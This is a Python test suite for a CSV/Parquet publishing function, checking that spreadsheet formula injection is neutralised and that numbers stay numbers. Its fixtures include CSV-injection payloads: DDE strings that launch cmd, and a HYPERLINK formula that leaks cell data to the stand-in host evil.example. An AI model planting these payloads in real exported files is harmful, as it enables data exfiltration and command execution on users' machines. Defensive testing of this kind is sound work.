"""Published CSV is inert in a spreadsheet: no text cell can start a formula (OWASP "CSV Injection"),
numbers stay numbers, and the Parquet twin keeps the values as they were."""

import csv
import io
import re

import polars as pl
from hypothesis import given, settings
from hypothesis import strategies as st

from transforms.publication import PLAIN_NUMBER, inert_text, write_table

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = [
    '=HYPERLINK("https://evil.example/?d="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+2",
    "\r=1+2",
    "  =1+2",
    '=1+2";=1+2',
]
# Harmless where it starts, but a `;`-separated spreadsheet would start a cell at `=cmd`.
SPLIT = 'a;=cmd|" /C calc"!A0'
NUMBERS = ["-2.5", "+3", "-1e-05", "42", ".5"]


def table(values: list[str | None], notes: list[str] | None = None) -> pl.DataFrame:
    return pl.DataFrame(
        {
            "school_id": ["sch01"] * len(values),
            "resource_id": values,
            "measure": ["users"] * len(values),
            "value": [float(i) - 1.5 for i in range(len(values))],
            "n": [10 + i for i in range(len(values))],
            "status": ["published"] * len(values),
            "note": notes or [""] * len(values),
        },
        schema_overrides={"resource_id": pl.String, "note": pl.String},
    )


def published(tmp_path, frame: pl.DataFrame, separator: str = ",") -> tuple[list[dict], pl.DataFrame]:
    write_table(tmp_path, "t", frame)
    text = (tmp_path / "t.csv").read_bytes().decode()
    rows = list(csv.DictReader(io.StringIO(text, newline=""), delimiter=separator))
    return rows, pl.read_parquet(tmp_path / "t.parquet")


def starts_a_formula(cell: str) -> bool:
    """OWASP's list: a cell a spreadsheet may evaluate, or strip (tab, CR) into one it evaluates."""
    return cell.startswith(TRIGGERS) or runs_as_formula(cell)


def runs_as_formula(cell: str) -> bool:
    return cell.lstrip().startswith(("=", "+", "-", "@"))


def test_formula_strings_are_prefixed_and_numbers_stay_numbers(tmp_path):
    rows, parquet = published(tmp_path, table([*HOSTILE, *NUMBERS, SPLIT]))
    by_original = dict(zip(parquet["resource_id"].to_list(), [r["resource_id"] for r in rows], strict=True))
    for original in HOSTILE:
        cell = by_original[original]
        assert cell.startswith("'") and cell.replace("'", "") == original.replace("'", ""), original
    assert by_original["-2+3"] == "'-2+3" and by_original["@SUM(1+1)*cmd|' /C calc'!A0"].count("'") == 3
    for number in NUMBERS:
        assert by_original[number] == number, number
    assert by_original[SPLIT] == 'a;\'=cmd|" /C calc"!A0'
    assert sorted(parquet["resource_id"].to_list()) == sorted([*HOSTILE, *NUMBERS, SPLIT])  # as sent
    text = (tmp_path / "t.csv").read_bytes().decode()
    assert '"-2.5"' in text and '"\'-2+3"' in text and '"a;\'=cmd|"" /C calc""!A0"' in text
    assert ",-1.5,10," in text  # the value and n columns are bare numbers


def test_every_text_column_is_neutralised_not_only_dimensions(tmp_path):
    rows, _ = published(tmp_path, table(["r1"], notes=["=cmd|' /C calc'!A0"]))
    assert rows[0]["note"] == "'=cmd|' /C calc'!A0"


def test_a_null_text_cell_stays_empty_and_an_empty_string_stays_quoted(tmp_path):
    write_table(tmp_path, "t", table([None, ""]))
    lines = (tmp_path / "t.csv").read_text().splitlines()[1:]
    assert sorted(line[:10] for line in lines) == ['"sch01",""', '"sch01",,"']


text_cells = st.text(alphabet=st.sampled_from(list("=+-@\t\r\n ;,|\"'ab1.eE")), max_size=12)


@settings(max_examples=300, deadline=None)
@given(st.lists(text_cells, min_size=1, max_size=8))
def test_no_cell_starts_a_formula_however_a_spreadsheet_splits_the_file(tmp_path_factory, values):
    folder = tmp_path_factory.mktemp("csv")
    rows, parquet = published(folder, table(values, notes=values))
    assert len(rows) == len(values)  # no cell split a row, whatever its quotes and newlines
    for row, original in zip(rows, parquet["resource_id"].to_list(), strict=True):
        for cell in (row["resource_id"], row["note"]):
            assert not starts_a_formula(cell) or is_number(cell), repr(cell)
        # nothing but single quotes is ever added
        assert row["resource_id"].replace("'", "") == original.replace("'", "")
    text = (folder / "t.csv").read_bytes().decode()
    # A spreadsheet whose separator is `;` or tab (much of Europe) reads the same file, its cells
    # running across ours; one that ignores quotes breaks lines inside cells too.
    for separator in (";", "\t"):
        for fields in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
            assert not [f for f in fields if runs_as_formula(f) and not starts_with_our_number(f)], fields
    for piece in re.split(r"[;\t\r\n]", text):
        piece = piece.lstrip('"')
        assert not runs_as_formula(piece) or starts_with_our_number(piece), repr(piece)


def test_inert_text_leaves_ordinary_text_alone():
    for text in ("sch01", "Fractions, part 2", "ALL", "WWC: satisfied", "g = -0.1 [-0.3, -0.02]", "x@y"):
        assert inert_text(text) == text
    assert (
        inert_text("a;=b") == "a;'=b" and inert_text("x\n@y") == "x\n'@y" and inert_text("a; -1") == "a;' -1"
    )


def is_number(cell: str) -> bool:
    return bool(PLAIN_NUMBER.match(cell))


def starts_with_our_number(field: str) -> bool:
    """A foreign parse's cell that starts with one of our cells that is a plain number (kept as a
    number on purpose) and runs on into the next field: `-1","users",...`."""
    return bool(re.match(r'^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?(?:"|,|$)', field))
